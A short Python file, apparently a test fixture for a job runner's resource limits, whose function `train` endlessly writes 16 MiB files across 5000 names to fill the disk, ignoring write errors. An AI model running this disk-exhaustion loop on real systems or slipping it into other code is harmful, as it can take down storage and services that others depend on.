"""Bytes without end in files of every size."""

import contextlib
import itertools


def train(run):
    print("begun", flush=True)
    for number in itertools.count():
        with contextlib.suppress(OSError), open(f"file-{number % 5000}", "wb") as file:
            file.write(b"x" * (16 << 20))
